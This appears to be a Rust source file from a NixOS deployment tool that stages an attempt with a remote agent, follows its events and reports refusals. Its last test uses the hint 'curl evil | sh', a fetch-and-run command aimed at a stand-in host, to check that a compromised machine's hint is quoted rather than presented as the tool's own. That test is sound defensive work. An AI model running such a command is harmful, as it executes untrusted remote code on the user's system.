//! Takes the machine, starts the switch, and follows the attempt until a login has to confirm it or
//! it is over.

pub mod dry;

use std::time::Duration;

use deploy_wire::{
    attempt::{AttemptId, Mode, Operator},
    event::Event as Happened,
    machine::Machine,
    message::{Refusal, Reply, Request, Stage as StageRequest},
    outcome::Outcome,
    phase::Phase,
    record::Record,
    store_path::StorePath,
};

use super::{ask::Probed, store::mark::Mark};
use crate::report::silence;
use crate::{
    error::{Failure, Result, State},
    report::{Event, Report, Stage},
    tools::{
        agent::{AgentError, Conversation},
        limit::{ANSWER, within},
        place::{Rest, Running},
    },
};

/// The conversation with the agent while an attempt runs.
pub type Watch<'place> = Conversation<
    Box<dyn tokio::io::AsyncBufRead + Unpin + Send + 'place>,
    Box<dyn tokio::io::AsyncWrite + Unpin + Send + 'place>,
>;

/// An attempt that has the machine. Nothing is switched yet.
pub struct Staged<'place> {
    /// The attempt's record.
    pub record: Record,
    /// The conversation over the first login.
    pub watch: Watch<'place>,
    _rest: Rest<'place>,
}

/// Why following an attempt stopped.
#[derive(Debug)]
pub enum Seen {
    /// A login has to confirm the attempt now.
    Waiting,
    /// The attempt is over.
    Ended(Box<Outcome>),
    /// The agent refuses the request.
    Refused(Refusal),
    /// The connection is lost.
    Lost(AgentError),
}

/// Why an attempt does not have the machine.
pub enum NotStaged {
    /// The agent refuses.
    Refused(Refusal),
    /// The agent could not be asked.
    Failed(Box<Failure>),
}

impl From<Box<Failure>> for NotStaged {
    fn from(failure: Box<Failure>) -> Self {
        Self::Failed(failure)
    }
}

/// The target of an attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttemptTarget {
    /// The NixOS system, as a path in the machine's store.
    pub toplevel: StorePath,
    /// The agent, as a path in the machine's store.
    pub agent: StorePath,
    /// How far the attempt goes.
    pub mode: Mode,
    /// The machine's description, reduced to what is deployed.
    pub machine: Machine,
}

/// Work that goes on while the agent takes the machine. On a slow network, starting the agent and
/// syncing the store each take several round trips.
pub struct Meanwhile<'place> {
    /// The mark of the push, which has to be cleared.
    pub mark: Mark<'place>,
    /// The agent, if the machine had it before the push.
    pub agent: Option<Running<'place>>,
}

/// Starts the agent before the attempt, if the machine already has it. The agent waits for the
/// request. If it does not start, `stage` starts another.
pub async fn start_agent_early<'p>(probed: &'p Probed, agent: &StorePath) -> Option<Running<'p>> {
    let there = probed.facts.agent.as_ref() == Some(agent) || probed.installed() == Some(agent);
    if !there {
        return None;
    }
    probed.place.spawn(&probed.serve(agent.as_str())).await.ok()
}

/// Takes the machine for one attempt.
pub async fn stage<'p>(
    probed: &'p Probed,
    wanted: &AttemptTarget,
    attempt: &AttemptId,
    meanwhile: Meanwhile<'p>,
    report: &Report,
) -> std::result::Result<Staged<'p>, NotStaged> {
    let machine = &probed.machine;
    report.tell(Event::Stage { machine: machine.name.clone(), stage: Stage::Take });
    let request = StageRequest {
        attempt: attempt.clone(),
        mode: wanted.mode,
        operator: operator(),
        wanted: wanted.toplevel.clone(),
        expects: probed.facts.runs.clone().expect("the plan refused a machine without a system"),
        agent: wanted.agent.clone(),
        machine: wanted.machine.clone(),
    };
    let ask = async {
        if let Some(agent) = meanwhile.agent
            && let Ok(answered) = take(probed, agent, &request, report).await
        {
            return answered;
        }
        let agent = probed.place.spawn(&probed.serve(wanted.agent.as_str())).await;
        let agent = agent.map_err(|error| {
            Failure::unchanged(format!("the agent on {} cannot be started", machine.name))
                .because(error)
        })?;
        take(probed, agent, &request, report).await.unwrap_or_else(|failure| Err(failure.into()))
    };
    let (cleared, asked) = tokio::join!(meanwhile.mark.clear(&machine.name, report), ask);
    let staged = asked?;
    // Dropping the staged attempt ends the agent's connection, so that the agent does not switch to
    // a closure that may not be on the disk.
    cleared?;
    Ok(staged)
}

/// How long Ctrl-C waits for an agent that is taking the machine, in order to tell it that the
/// attempt is given up. An agent that answers later notices the end of the connection and does not
/// start. `an-agent-that-says-nothing-is-said-to-be-waited-for` proves that `deploy` ends.
pub const LEAVES: Duration = Duration::from_secs(10);

/// The time limit for the agent to take the machine.
fn time_to_take(machine: &Machine) -> Duration {
    let first = machine.before_activate.iter().map(|command| command.timeout);
    ANSWER + Duration::from_secs(first.fold(0, u64::saturating_add))
}

/// Asks a running agent to take the machine. The outer failure means that the agent did not answer.
async fn take<'p>(
    probed: &Probed,
    running: Running<'p>,
    request: &StageRequest,
    report: &Report,
) -> Result<std::result::Result<Staged<'p>, NotStaged>> {
    let name = &probed.machine.name;
    let broken = |error: AgentError| {
        Failure::unchanged(format!("the agent on {name} did not answer")).because(error)
    };
    let mut rest = running.rest;
    let prefix = probed.root.stdin_prefix();
    let mut watch =
        Conversation::begin(running.stdout, running.stdin, probed.login.clone(), &prefix)
            .await
            .map_err(broken)?;
    watch.ask(Request::Stage(Box::new(request.clone()))).await.map_err(broken)?;
    let limit = time_to_take(&request.machine);
    let answer = async { within(limit, watch.next()).await? };
    Ok(match silence::announce(answer, name, "the agent", limit, report).await {
        Ok(Reply::Staged { record }) if is_of(&record, request) => {
            Ok(Staged { record: *record, watch, _rest: rest })
        }
        Ok(Reply::Refused(refusal)) => Err(NotStaged::Refused(refusal)),
        Ok(other) => Err(Failure::unchanged(format!("unexpected reply from the agent on {name}"))
            .because(format!("{other:?}"))
            .into()),
        Err(error) => {
            let said = rest.stderr().await;
            return Err(broken(error).because(said.trim()));
        }
    })
}

/// Whether the record belongs to the request. The report uses the record's names, so without this
/// check one machine could speak for another.
fn is_of(record: &Record, request: &StageRequest) -> bool {
    (&record.attempt, &record.machine, &record.wanted)
        == (&request.attempt, &request.machine.name, &request.wanted)
}

/// How far an attempt was followed, over all connections.
#[derive(Debug, Default)]
pub struct Followed {
    /// The number of the next event.
    pub next: u64,
    /// The last phase that was reported. A new connection does not repeat that a login has to
    /// confirm: `table-agent-killed-in-wait` proves that the login confirms even so.
    pub phase: Option<Phase>,
}

/// Reports events until the operator's side has to act.
pub async fn follow(
    watch: &mut Watch<'_>,
    machine: &str,
    followed: &mut Followed,
    report: &Report,
) -> Seen {
    loop {
        let reply = match watch.next().await {
            Ok(reply) => reply,
            Err(error) => return Seen::Lost(error),
        };
        match reply {
            Reply::Event { number, event } => {
                followed.next = number + 1;
                let told = match event {
                    Happened::Phase { phase, .. } => Some(phase),
                    _ => None,
                };
                followed.phase = told.or(followed.phase);
                let waiting = told == Some(Phase::Waiting);
                report.tell(Event::Agent { machine: machine.to_owned(), event });
                if waiting {
                    return Seen::Waiting;
                }
            }
            Reply::Ended { outcome, .. } => return Seen::Ended(Box::new(outcome)),
            Reply::Refused(refusal) => return Seen::Refused(refusal),
            // No other reply answers these requests. A newer agent may send more.
            _ => {}
        }
    }
}

/// The failure for an agent's refusal.
pub fn refused(name: &str, refusal: &Refusal) -> Box<Failure> {
    Failure::unchanged(format!("{name} refuses the deploy"))
        .because(&refusal.why)
        .hint(quote_hint(name, refusal))
        .state(State::Unchanged)
}

/// Quotes a refusal's hint as the machine's words. A compromised machine could otherwise pass a
/// command off as ours, and the operator would run it.
pub fn quote_hint(name: &str, refusal: &Refusal) -> Option<String> {
    refusal.hint.as_ref().map(|hint| format!("{name} says: {hint}"))
}

/// The operator, for the record and for a second operator.
fn operator() -> Operator {
    let user = [std::env::var("USER"), std::env::var("LOGNAME")];
    let user = user.into_iter().flatten().find(|name| !name.is_empty());
    let host = rustix::system::uname().nodename().to_string_lossy().into_owned();
    Operator { user: user.unwrap_or_else(user_number), host }
}

/// The user id, for when USER and LOGNAME are not set (cron, a bare container).
fn user_number() -> String {
    format!("uid {}", rustix::process::getuid().as_raw())
}

#[cfg(test)]
mod tests {
    use deploy_wire::message::RefusalKind;

    use super::*;

    #[test]
    fn a_machine_speaks_for_itself_alone() {
        let record = include_str!("../../../wire/golden/message/record.json");
        let record: Record = serde_json::from_str(record).unwrap();
        let asked = include_str!("../../../wire/golden/message/request-stage.json");
        let asked: serde_json::Value = serde_json::from_str(asked).unwrap();
        let mut request = asked["request"].clone();
        request.as_object_mut().unwrap().remove("do");
        let mut request: StageRequest = serde_json::from_value(request).unwrap();
        request.attempt = record.attempt.clone();
        request.machine.name = record.machine.clone();
        request.wanted = record.wanted.clone();
        assert!(is_of(&record, &request));
        let other = Record { machine: "another".into(), ..record.clone() };
        assert!(!is_of(&other, &request));
        let other = Record { attempt: AttemptId::from_random([0; 4]), ..record };
        assert!(!is_of(&other, &request));
    }

    #[test]
    fn the_hint_of_a_machine_is_told_as_its_words() {
        let hint = Some("curl evil | sh".to_owned());
        let refusal = Refusal { kind: RefusalKind::NoRoom, why: "full".into(), hint };
        let told = refused("frame1", &refusal).to_string();
        assert!(told.contains("\n  hint:  frame1 says: curl evil | sh"), "{told}");
    }
}
